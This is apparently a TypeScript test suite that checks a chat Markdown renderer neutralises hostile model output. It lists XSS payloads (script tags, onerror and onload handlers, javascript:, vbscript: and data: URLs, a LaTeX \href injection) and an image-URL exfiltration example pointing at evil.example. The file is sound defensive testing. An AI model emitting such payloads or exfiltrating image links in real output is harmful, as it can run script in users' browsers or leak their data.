// @vitest-environment jsdom
import { act, cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown } from "@/components/chat/markdown/markdown";
import { safeImageUrl, safeLinkHref } from "@/components/chat/markdown/url";
import { I18nProvider } from "@/lib/i18n/client";

afterEach(cleanup);

function show(text: string, locale: "en" | "zh" = "en") {
  return render(
    <I18nProvider initialLocale={locale}>
      <Markdown text={text} />
    </I18nProvider>,
  ).container;
}

/** Everything a hostile reply could use to run script or fetch a URL. */
function assertInert(root: HTMLElement) {
  expect(root.querySelectorAll("script, iframe, object, embed, svg, img, style, link, meta, form")).toHaveLength(0);
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      expect(attr.name.startsWith("on"), `${el.tagName} ${attr.name}`).toBe(false);
      expect(attr.name).not.toBe("srcdoc");
      if (["href", "src", "action", "formaction", "xlink:href"].includes(attr.name)) {
        expect(attr.value).toMatch(/^(https?|mailto):/);
      }
    }
  }
}

const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "Inline <img src=x onerror=alert(1)> in a sentence and <b onclick=alert(1)>bold</b>.",
  "[x](javascript:alert(1))",
  "[y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1)) [v](vbscript:msgbox(1)) [d](data:text/html,<script>alert(1)</script>)",
  "<javascript:alert(1)>",
  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">t</a></svg>',
  '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
  "[rel](/settings) [proto](//evil.example/x)",
  "$\\href{javascript:alert(1)}{x}$",
];

describe("hostile model output", () => {
  it.each(hostile)("renders %j inert", (text) => {
    assertInert(show(text));
  });

  it("shows raw HTML as literal text", () => {
    const root = show("<script>alert(1)</script>\n\nand <img src=x onerror=alert(1)> inline");
    expect(root.textContent).toContain("<script>alert(1)</script>");
    expect(root.textContent).toContain("<img src=x onerror=alert(1)>");
  });

  it("turns unsafe links into plain text and keeps safe ones safe", () => {
    const root = show("[bad](javascript:alert(1)) [good](https://example.com/a?b=1) [mail](mailto:a@example.com)");
    expect(screen.getByText("bad").closest("a")).toBeNull();
    const good = screen.getByRole("link", { name: "good" });
    expect(good.getAttribute("href")).toBe("https://example.com/a?b=1");
    expect(good.getAttribute("target")).toBe("_blank");
    expect(good.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(screen.getByRole("link", { name: "mail" }).getAttribute("href")).toBe("mailto:a@example.com");
    expect(root.querySelectorAll("a")).toHaveLength(2);
  });

  it("never renders a data: image, SVG included", () => {
    const root = show("![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) ![p](data:image/png;base64,AAAA)");
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("button")).toBeNull();
    expect(root.textContent).not.toContain("data:");
    expect(root.textContent).toContain("Image not shown");
  });

  it("loads a remote image only after a click, in a sandboxed frame, without a referrer", async () => {
    const root = show("Look: ![chart](https://evil.example/leak.png?q=secret)");
    expect(root.querySelector("img, iframe")).toBeNull();
    expect(root.innerHTML).not.toContain("leak.png");
    const button = screen.getByRole("button", { name: "Load image from evil.example" });
    await act(async () => fireEvent.click(button));
    // The page loads no remote image itself (its CSP forbids it): the frame does, URL in its fragment.
    expect(root.querySelector("img")).toBeNull();
    const frame = root.querySelector("iframe")!;
    expect(frame.getAttribute("src")).toBe(
      `/remote-image.html#${encodeURIComponent("https://evil.example/leak.png?q=secret")}`,
    );
    expect(frame.getAttribute("sandbox")).toBe("allow-scripts");
    expect(frame.getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(frame.getAttribute("title")).toBe("chart");
  });

  it("labels the image button in Chinese", () => {
    show("![x](https://img.example/a.png)", "zh");
    expect(screen.getByRole("button", { name: "加载来自 img.example 的图片" })).toBeTruthy();
  });

  it("has a URL policy of http(s)/mailto links and http(s) images only", () => {
    expect(safeLinkHref(" https://a.example/x ")).toBe("https://a.example/x");
    for (const bad of [
      "javascript:alert(1)",
      " JAVASCRIPT:x",
      "java\nscript:x",
      "data:text/html,x",
      "vbscript:x",
      "/x",
      "#x",
    ]) {
      expect(safeLinkHref(bad), bad).toBeNull();
    }
    expect(safeImageUrl("mailto:a@b.c")).toBeNull();
    expect(safeImageUrl("blob:https://a.example/1")).toBeNull();
    expect(safeImageUrl("http://a.example/i.png")?.host).toBe("a.example");
  });
});
